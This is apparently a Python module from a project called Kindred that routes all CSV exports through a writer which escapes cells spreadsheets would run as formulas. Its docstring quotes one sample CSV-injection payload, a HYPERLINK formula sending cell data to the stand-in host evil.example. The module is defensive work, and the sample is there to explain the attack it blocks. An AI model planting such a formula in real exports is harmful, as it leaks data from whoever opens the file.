"""The one way Kindred writes CSV files: every export goes through `csv_writer`.

A spreadsheet runs a cell that starts with `=`, `+`, `-`, `@` (and in some programs `|`, `%`,
a tab or a carriage return) as a formula, so a person's name such as
`=HYPERLINK("http://evil.example/?x="&A1,"Click")` or an imported school name would become a
live formula in whoever opens the export ("CSV injection", OWASP). `csv_writer` prefixes such
cells with an apostrophe, which spreadsheets show as text. Numbers, and text that is just a
number ("-0.25"), are written as they are.

The escaping is defusedcsv's (a maintained drop-in for the standard `csv` module); the two
leading characters it leaves alone, tab and carriage return, are escaped here as well.
"""

import csv
import json
from collections.abc import Iterable, Iterator
from typing import Any

from defusedcsv import csv as defused

from kindred.core.progress import worded

_ALSO_ESCAPED = ("\t", "\r")
# The first characters that make a cell a formula (defusedcsv's list and ours): a reader of a file
# Kindred wrote drops the apostrophe in front of them (frameworks/loading.py).
FORMULA_STARTS = frozenset("=+-@|%\t\r")
#: Cells written as they are: no spreadsheet runs a number, a boolean or an empty cell.
_PLAIN = frozenset({int, float, bool, type(None)})


def spreadsheet_safe(value: Any) -> Any:
    """`value` as a CSV cell that no spreadsheet will run as a formula."""
    if type(value) is str:  # the common cells first: an export writes millions of them
        if not value or value[0] not in FORMULA_STARTS:
            return value
        if value.startswith(_ALSO_ESCAPED):
            return "'" + value
    elif type(value) in _PLAIN:
        return value
    return defused._escape(value)


class _SafeWriter:
    """The standard library's writer, each cell through `spreadsheet_safe` once (defusedcsv's own
    writer would escape each cell a second time, which changes nothing and doubled an export's time)."""

    def __init__(self, writer):
        self._writer = writer

    def writerow(self, row: Iterable[Any]):
        return self._writer.writerow(
            [cell if type(cell) in _PLAIN else spreadsheet_safe(cell) for cell in row]
        )

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(stream, **fmtparams) -> _SafeWriter:
    """A `csv.writer` on `stream` (a file, an HttpResponse, or `Echo()` for streaming) whose cells are safe."""
    return _SafeWriter(csv.writer(stream, **fmtparams))


class Echo:
    """A pseudo-file whose `write` returns the line, for StreamingHttpResponse: `csv_writer(Echo())`."""

    def write(self, value: str) -> str:
        return value


#: The column of a kept CSV that holds the values (JSON) of the message id in the column before it.
REASON_PARAMS = "reason_params"


def csv_worded(lines: Iterable[str]) -> Iterator[str]:
    """A CSV Kindred kept for a later reader (an import's errors file), as that reader downloads it:
    a column followed by `reason_params` holds English message ids, worded here in the active
    language with the values in `reason_params` (JSON), and that column is left out. A file kept
    before (no such column) is given as it is. The cells were made safe when the file was written."""
    lines = iter(lines)
    first = next(lines, None)
    if first is None:
        return
    header = next(csv.reader([first]))
    if REASON_PARAMS not in header or header.index(REASON_PARAMS) == 0:
        yield first
        yield from lines
        return
    at = header.index(REASON_PARAMS)
    out = csv_writer(Echo())  # the kept cells are safe already; the worded reason is made so
    yield out.writerow(header[:at] + header[at + 1 :])
    for row in csv.reader(lines):
        if len(row) > at:
            try:
                params = json.loads(row[at]) if row[at] else {}
            except ValueError:
                params = {}
            row = [*row[: at - 1], worded(row[at - 1], params), *row[at + 1 :]]
        yield out.writerow(row)
